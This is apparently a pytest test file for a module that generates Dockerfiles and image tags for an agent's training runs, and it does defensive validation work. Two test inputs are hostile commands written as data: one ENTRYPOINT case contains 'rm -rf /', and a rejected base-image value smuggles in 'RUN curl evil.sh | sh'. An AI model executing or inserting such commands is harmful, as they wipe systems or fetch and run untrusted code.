"""The Dockerfile the agent builds a run's image from, and the tag it builds. No database."""

from __future__ import annotations

import json

import pytest

from launchq.images import PYTHON_IMAGE, image_tag, make_dockerfile


def instructions(dockerfile: str) -> list[str]:
    """The Dockerfile's instructions, continuation lines joined, comments dropped."""
    out, current = [], ""
    for line in dockerfile.splitlines():
        if line.startswith("#") or not line.strip():
            continue
        current += line.rstrip("\\").strip() + " "
        if not line.endswith("\\"):
            out.append(" ".join(current.split()))
            current = ""
    return out


def test_accelerator_base_image_installs_python_with_apt_get():
    text = make_dockerfile("tensorflow/tensorflow:latest-gpu", ["python", "train.py"], requirements=True)
    steps = instructions(text)
    assert steps[0] == "FROM tensorflow/tensorflow:latest-gpu"
    apt = next(s for s in steps if "apt-get install" in s)
    assert apt.startswith("RUN apt-get update &&")
    assert "DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends" in apt
    for package in ("python3", "python3-pip", "python3-venv"):
        assert package in apt.split()
    assert apt.endswith("rm -rf /var/lib/apt/lists/*")
    # the base image's own packages (TensorFlow) stay importable from the venv
    assert "RUN python3 -m venv --system-site-packages /opt/venv" in steps
    assert 'ENV PATH="/opt/venv/bin:$PATH"' in steps


def test_without_base_image_uses_official_slim_python():
    steps = instructions(make_dockerfile(None, ["python", "train.py"], requirements=False))
    assert steps[0] == f"FROM {PYTHON_IMAGE}"
    assert PYTHON_IMAGE.startswith("python:") and PYTHON_IMAGE.endswith("-slim")
    assert not any("apt-get" in s for s in steps)
    assert not any("requirements.txt" in s for s in steps)


def test_requirements_installed_before_source_copied():
    steps = instructions(make_dockerfile(None, ["python", "train.py"], requirements=True))
    copy_req = steps.index("COPY requirements.txt ./requirements.txt")
    install = steps.index("RUN python -m pip install -r requirements.txt")
    copy_all = steps.index("COPY . .")
    assert copy_req < install < copy_all
    assert "WORKDIR /app" in steps


@pytest.mark.parametrize("command", [
    ["python", "train.py", "--lr", "0.1"],
    ["python", "-c", 'print("a b")'],
    ["sh", "-c", "echo ${HOME} && rm -rf /"],
])
def test_entrypoint_is_the_command_in_exec_form(command):
    steps = instructions(make_dockerfile(None, command, requirements=False))
    assert steps[-1].startswith("ENTRYPOINT [")
    assert json.loads(steps[-1].removeprefix("ENTRYPOINT ")) == command


@pytest.mark.parametrize("base", ["not an image", "ubuntu\nRUN curl evil.sh | sh", "${BASE_IMAGE}", "ubuntu:bad tag"])
def test_bad_base_image_is_refused_not_written(base):
    with pytest.raises(ValueError):
        make_dockerfile(base, ["python", "x.py"], requirements=False)


def test_empty_command_is_refused():
    with pytest.raises(ValueError):
        make_dockerfile(None, [], requirements=False)


def test_run_id_named_in_a_comment():
    assert "for run ab12cd34" in make_dockerfile(None, ["x"], requirements=False, run_id="ab12cd34").splitlines()[0]


def test_image_tag_is_repository_tagged_with_run_id():
    assert image_tag("ghcr.io/team/runs", "ab12cd34") == "ghcr.io/team/runs:ab12cd34"
    assert image_tag("localhost:5000/runs", "x1") == "localhost:5000/runs:x1"
    with pytest.raises(ValueError):
        image_tag("Not A Repo", "x1")
